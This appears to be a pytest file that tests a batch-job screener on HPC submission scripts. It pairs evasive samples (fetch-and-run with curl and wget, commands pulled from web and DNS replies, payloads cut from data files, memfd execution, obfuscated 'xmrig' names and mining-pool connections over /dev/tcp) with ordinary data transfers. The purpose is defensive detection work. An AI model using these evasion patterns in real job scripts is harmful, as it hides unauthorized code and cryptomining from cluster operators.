"""What a script fetches or puts together and then runs is an open sign; ordinary transfers of data are none."""

import pytest

from tocsin.core.verdict import SEEN_FROM
from tocsin.workload.screening import Screener, builtin

_HEADER = "#!/bin/bash\n#SBATCH -J relax\n#SBATCH -n 32\n#SBATCH -t 2-0\nmodule load gcc\n"
_UNREAD = {
    "scp": "scp login2:bin/relax .\n./relax",
    "rsync of a folder": "rsync -a store:/data/tools/ ./tools/\nchmod +x tools/solver\n./tools/solver -c cfg.json",
    "sftp": "sftp store <<< 'get solver'\n./solver",
    "rclone": "rclone copy remote:bin/solver .\nchmod +x solver; ./solver --config c.json",
    "object store": "aws s3 cp s3://bucket/solver ./solver\nchmod 755 solver\n./solver",
    "several files by one curl": "curl -sO https://x.example.org/{relax,c.json}; chmod +x relax; ./relax",
    "a list of files": "wget -q -i list.txt -P bin; chmod +x bin/*; bin/relax",
    "an archive on the fly": "curl -s https://x.example.org/r.tgz | tar xz; ./r/relax",
    "an archive and its program": "wget https://x.example.org/r.zip\nunzip -q r.zip\n./r/relax",
    "a repository": "git clone https://git.example.org/u/r.git && cd r && make && ./r --config c.json",
    "an answer of a web server": "c=$(curl -s https://x.example.org/c)\n$c",
    "a record of a name server": "c=$(host -t txt run.example.org | cut -d'\"' -f2)\n$c",
    "a part of a data file": "dd if=data.h5 of=relax bs=1 skip=4096; chmod +x relax; ./relax",
    "a section of a library": "objcopy -O binary -j .x lib.so relax; chmod +x relax; ./relax",
    "the end of the script itself": 'tail -c +900 "$0" > /tmp/r; chmod +x /tmp/r; /tmp/r; exit',
    "a file of parts": "cat p1 p2 p3 > relax; chmod +x relax; ./relax",
    "code that Python makes": "python3 -c \"d=open('a.png','rb').read()[::7]; exec(d)\"",
    "a file in memory": "python3 -c \"import os; f=os.memfd_create('x'); os.execv('/proc/self/fd/3',['x'])\"",
    "a pattern of names": "/opt/tools/x??ig -o data.bin",
    "letters by number": "a=(r g x i m); ${a[2]}${a[4]}${a[0]}${a[3]}${a[1]} -o x",
    "letters in a loop": "s='gximr'; for i in 1 3 4 2 0; do n=$n${s:i:1}; done; $n",
    "letters cut from a word": "n=$(echo exmrigs | cut -c2-6)\n$n",
    "names by a function": "d(){ case $1 in 1) echo xm;; 2) echo rig;; esac; }\n$(d 1)$(d 2) -o x",
    "arguments joined in R": "Rscript - <<E\nsystem2('./relax', c('-o', paste0('pool.hash','vault.pro:443')))\nE",
    "pieces in Python": "python3 - <<E\nimport json\njson.dump({'po'+'ols':[{'url':'pool.hash'+'vault.pro:443'}]},open('c.json','w'))\nE\n./relax -c c.json",
    "pieces in C": 'cat > a.c <<\'E\'\nint main(){char b[99];sprintf(b,"./relax -o pool.%s.pro:443","hashvault");system(b);}\nE\ncc a.c -o a && ./a',
    "a connection of the shell's own": "H=pool.hash; exec 3<>/dev/tcp/${H}vault.pro/3333",
    "a clear name and nothing else": "nix run nixpkgs#xmrig -- -c c.json",
}
_ORDINARY = {
    "data by scp": "scp login2:data/mesh.h5 .\nmpirun ./solver mesh.h5",
    "results by scp": "./solver mesh.h5\nscp out.h5 login2:results/",
    "data by rsync": "rsync -a store:/data/run7/mesh.h5 $TMPDIR/mesh.h5\nsrun ./solver $TMPDIR/mesh.h5",
    "results by rsync": "srun ./solver in.h5\nrsync -a results/ store:/archive/run7/",
    "results to an object store": "./solver\naws s3 cp out.h5 s3://bucket/out.h5",
    "the place of a program": "exe=$(which gmx_mpi)\n$exe mdrun -s topol.tpr",
    "a program by two variables": 'BIN=$HOME/bin\n"$BIN/$CODE" input.dat',
    "a file name by a filter": "out=$(echo run7.inp | sed s/inp/out/)\n./solver run7.inp > $out",
    "a list that grows": 'for f in *.fq; do all+=" $f"; done\nbwa mem ref.fa $all',
    "a look at itself": 'grep SBATCH "$0"\n./solver',
    "files joined as data": "cat part1.csv part2.csv > all.csv\n./solver all.csv",
    "files by a pattern": "ls run?/out.dat\n./solver run?/out.dat",
}


@pytest.fixture(scope="module")
def shipped() -> Screener:
    return builtin()


@pytest.mark.parametrize("name", _UNREAD)
def test_what_is_fetched_or_put_together_and_run_is_never_just_fine(name: str, shipped: Screener) -> None:
    [found] = shipped.screen([f"{_HEADER}{_UNREAD[name]}\n"])
    assert found.open or found.operations["cryptomining"] >= SEEN_FROM


@pytest.mark.parametrize("name", _ORDINARY)
def test_ordinary_transfers_and_variables_are_no_sign(name: str, shipped: Screener) -> None:
    [found] = shipped.screen([f"{_HEADER}{_ORDINARY[name]}\n"])
    assert (found.open, max(found.operations[each] for each in ("cryptomining", "cyber")) < SEEN_FROM) == (
        [],
        True,
    )
